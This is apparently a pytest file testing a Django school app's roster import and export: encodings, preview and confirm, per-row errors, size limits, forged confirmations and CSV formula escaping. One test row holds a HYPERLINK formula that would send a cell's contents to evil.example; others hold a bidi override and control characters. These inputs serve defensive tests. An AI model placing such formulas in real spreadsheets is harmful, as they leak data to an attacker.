"""The roster import and export (classrooms/roster.py, the school admin's import page)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from classrooms import roster, services
from classrooms.models import LevelChange, Student
from tests import factories

FILES = Path(__file__).parent / "roster_files"
YEAR = "2026-2027"
EXPECTED = {
    ("Maël", "CP"): (10, 1, "mael.parent@example.org"),
    ("Zoé", "CP"): (10, 1, ""),
    ("Noël", "CE1"): (20, 2, "noel@example.fr"),
    ("Œnone", "CE1"): (10, 2, ""),
}


@pytest.fixture
def cp(school, teacher):
    return factories.classroom(school=school, teachers=[teacher], name="CP", school_year=YEAR)


@pytest.fixture
def ce1(school, teacher):
    return factories.classroom(school=school, teachers=[teacher], name="CE1", school_year=YEAR)


@pytest.fixture
def admin_client(client, school_admin):
    client.force_login(school_admin)
    return client


def _roster(school) -> dict:
    return {
        (s.name, s.classroom.name): (s.number_range, s.tier, s.parent_email)
        for s in Student.objects.filter(classroom__school=school).select_related("classroom")
    }


def _upload(client, name: str, data: bytes, year: str = YEAR):
    return client.post(
        reverse("schooladmin:import"),
        {"school_year": year, "file": SimpleUploadedFile(name, data), "paste": ""},
    )


def _payload(response) -> str:
    match = re.search(r'name="payload" value="([^"]+)"', response.content.decode())
    assert match, "the preview offers no confirm"
    return match[1]


def _confirm(client, payload: str):
    return client.post(reverse("schooladmin:import"), {"confirm": "1", "payload": payload})


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "libreoffice_utf8.csv",
        "excel_utf8_bom_fr.csv",
        "excel_unicode_text.txt",
        "excel_windows1252.csv",
        "paste.txt",
    ],
)
def test_every_spreadsheet_export_reads_the_same_and_a_second_import_changes_nothing(
    name, school, cp, ce1
):
    data = (FILES / name).read_bytes()
    rows = (
        roster.roster_read(text=data.decode())
        if name == "paste.txt"
        else roster.roster_read(data=data)
    )
    plan = roster.roster_plan(school=school, school_year=YEAR, rows=rows)
    assert [r.action for r in plan.rows] == ["new"] * 4 and not plan.errors
    assert not Student.objects.exists()  # planning writes nothing
    roster.roster_apply(school=school, school_year=YEAR, rows=rows, digest=plan.digest())
    assert _roster(school) == EXPECTED
    history = LevelChange.objects.count()
    again = roster.roster_plan(school=school, school_year=YEAR, rows=rows)
    assert [r.action for r in again.rows] == ["unchanged"] * 4
    roster.roster_apply(school=school, school_year=YEAR, rows=rows, digest=again.digest())
    assert _roster(school) == EXPECTED and LevelChange.objects.count() == history


@pytest.mark.django_db
def test_the_page_previews_writes_nothing_then_confirms_in_one_go(admin_client, school, cp, ce1):
    response = _upload(admin_client, "f.csv", (FILES / "excel_windows1252.csv").read_bytes())
    page = response.content.decode()
    assert response.status_code == 200 and page.count("new child") == 4 and "Œnone" in page
    assert not Student.objects.exists()
    response = _confirm(admin_client, _payload(response))
    assert response.status_code == 302
    assert _roster(school) == EXPECTED
    page = admin_client.get(response["Location"]).content.decode()
    assert "Imported: 4 new, 0 updated, 0 unchanged." in page
    # The same file again: every row unchanged, and confirming it changes nothing.
    response = _upload(admin_client, "f.csv", (FILES / "excel_windows1252.csv").read_bytes())
    page = response.content.decode()
    assert len(re.findall(r"<td>\s*unchanged\s*</td>", page)) == 4 and "new child" not in page
    _confirm(admin_client, _payload(response))
    assert _roster(school) == EXPECTED


@pytest.mark.django_db
def test_an_update_says_what_changes_and_the_export_reads_back_unchanged(
    admin_client, school, cp, ce1
):
    factories.student(classroom=cp, name="Maël")  # level 10/1, no email yet
    paste = (FILES / "paste.txt").read_text().replace("Maël\tCP\t10/1", "Maël\tCP\t20/3")
    response = admin_client.post(
        reverse("schooladmin:import"), {"school_year": YEAR, "paste": paste}
    )
    page = response.content.decode()
    assert "level 10/1 → 20/3" in page and "parent&#x27;s email → mael.parent@example.org" in page
    _confirm(admin_client, _payload(response))
    mael = Student.objects.get(name="Maël")
    assert (mael.number_range, mael.tier, mael.parent_email) == (20, 3, "mael.parent@example.org")
    assert mael.level_changes.last().changed_by.username == "head"
    # The export writes the import's columns back: importing it changes nothing.
    export = admin_client.get(reverse("schooladmin:export"), {"year": YEAR})
    assert export["Content-Type"].startswith("text/csv")
    body = export.content
    assert body.startswith(b"\xef\xbb\xbf") and b"First name,Class,Level,Parent's email" in body
    rows = roster.roster_read(data=body)
    plan = roster.roster_plan(school=school, school_year=YEAR, rows=rows)
    assert len(plan.rows) == 4 and {r.action for r in plan.rows} == {"unchanged"}


@pytest.mark.django_db
def test_the_export_never_writes_a_formula(school, cp):
    # A name typed on a teacher's page may start like a formula; the file must not run it.
    services.student_create(classroom=cp, name='=HYPERLINK("http://x")')
    services.student_create(classroom=cp, name="@Anna")
    text = roster.roster_export_csv(school=school, school_year=YEAR).decode("utf-8-sig")
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(",")]
    assert not [c for c in cells if c.lstrip('"')[:1] in ("=", "+", "-", "@")]
    assert "'@Anna" in text


@pytest.mark.django_db
def test_each_error_is_said_on_its_row_and_nothing_is_written(
    admin_client, school, other_school, cp, ce1
):
    foreign = factories.classroom(school=other_school, name="CP", school_year=YEAR)
    paste = "\n".join(
        [
            "First name\tClass\tLevel\tParent's email",
            "Anna\tCP",
            "Zoé\u202e\tCP",  # 3: the name check
            "anna\tcp",  # 4: a duplicate of line 2
            "Bleuenn\tCM2",  # 5: no such class
            "Dewi\tCP\t\tdewi@",  # 6: not an email
            f"Elouan\t{foreign.code}",  # 7: another school's class
            '=HYPERLINK("http://evil.example/?"&A1,"Anna")\tCP',  # 8: a formula
            "Fañch\tCP\t30/1",  # 9: not a level
            "Gwen\x07\tCE1",  # 10: a control character
            "\tCE1",  # 11: no name
        ]
    )
    response = admin_client.post(
        reverse("schooladmin:import"), {"school_year": YEAR, "paste": paste}
    )
    page = response.content.decode()
    rows = re.findall(r"<tr class=\"row-error\">\s*<td>(\d+)</td>(.*?)</tr>", page, re.S)
    errors = {int(line): text for line, text in rows}
    assert sorted(errors) == [3, 4, 5, 6, 7, 8, 9, 10, 11]
    assert "U+202E" in errors[3]
    assert "already on line 2" in errors[4]
    assert "no class “CM2” in 2026-2027" in errors[5]
    assert "is not an email address" in errors[6]
    assert "another school" in errors[7]
    assert "formula" in errors[8] and "HYPERLINK" in errors[8]
    assert "30/1" in errors[9] and "not a level" in errors[9]
    assert "U+0007" in errors[10]
    assert "first name is missing" in errors[11]
    assert "new child" in page  # line 2 is fine, and said so
    assert 'name="payload"' not in page  # no confirm while a row is wrong
    assert not Student.objects.filter(classroom__school__in=[school, other_school]).exists()


def _refusal(response) -> str:
    assert response.status_code == 400
    match = re.search(r'id="import-error">(.*?)</div>', response.content.decode(), re.S)
    assert match
    return match[1]


@pytest.mark.django_db
def test_bad_files_get_a_clear_message_and_nothing_is_written(admin_client, cp):
    big = b"First name,Class\n" + b"Anna,CP\n" * (50 * 1024 * 1024 // 8)
    assert "at most 1 MB" in _refusal(_upload(admin_client, "big.csv", big))
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    assert "not a table of text" in _refusal(_upload(admin_client, "photo.csv", png))
    xlsx = b"PK\x03\x04\x14\x00\x06\x00" + bytes(300)
    assert "Save as" in _refusal(_upload(admin_client, "roster.xlsx", xlsx))
    many = "First name,Class\n" + "".join(f"Child {i},CP\n" for i in range(5000))
    assert "5,000 rows; at most 2,000" in _refusal(_upload(admin_client, "many.csv", many.encode()))
    no_heading = b"Anna,CP\nDewi,CP\n"
    assert "must name the columns" in _refusal(_upload(admin_client, "h.csv", no_heading))
    quote = b'First name,Class\n"Anna,CP\n'
    assert "quotation mark" in _refusal(_upload(admin_client, "q.csv", quote))
    empty = admin_client.post(reverse("schooladmin:import"), {"school_year": YEAR, "paste": ""})
    assert "Choose a file or paste" in _refusal(empty)
    assert not Student.objects.exists()


@pytest.mark.django_db
def test_a_stale_or_forged_confirm_is_refused(admin_client, school, school_admin, cp, ce1):
    response = _upload(admin_client, "f.csv", (FILES / "libreoffice_utf8.csv").read_bytes())
    payload = _payload(response)
    # Meanwhile a teacher adds Zoé to CP: the preview no longer says what would happen.
    factories.student(classroom=cp, name="Zoé")
    response = _confirm(admin_client, payload)
    page = response.content.decode()
    assert "changed since this preview" in page and "Nothing was written" in page
    assert set(Student.objects.values_list("name", flat=True)) == {"Zoé"}
    # The new preview can be confirmed.
    _confirm(admin_client, _payload(response))
    assert len(_roster(school)) == 4
    # A payload changed by hand, or signed for someone else, is refused.
    forged = payload[:-3] + ("AAA" if not payload.endswith("AAA") else "BBB")
    assert "too old or was changed" in _refusal(_confirm(admin_client, forged))
    colleague = factories.school_admin(school=school, username="head2")
    admin_client.force_login(colleague)
    assert "too old or was changed" in _refusal(_confirm(admin_client, payload))


def test_a_first_name_heading_wins_over_a_family_name_column():
    # "Name" is the family name in a German or French class list: the first name is read.
    rows = roster.roster_read(text="Name;Vorname;Klasse;E-Mail\nLe Goff;Maël;CP;a@example.org\n")
    assert (rows[0].name, rows[0].classroom, rows[0].email) == ("Maël", "CP", "a@example.org")
    rows = roster.roster_read(text="Nom,Prénom,Classe\nLe Bras,Zoé,CE1\n")
    assert (rows[0].name, rows[0].classroom) == ("Zoé", "CE1")


@pytest.mark.django_db
def test_a_new_child_named_like_one_of_another_class_is_pointed_out(admin_client, school, cp, ce1):
    factories.student(classroom=ce1, name="Maël")
    response = admin_client.post(
        reverse("schooladmin:import"), {"school_year": YEAR, "paste": "First name\tClass\nMaël\tCP"}
    )
    page = response.content.decode()
    assert "new child" in page and "There is already a Maël in CE1 this year." in page
    assert 'name="payload"' in page  # a note, not an error: two children may share a name
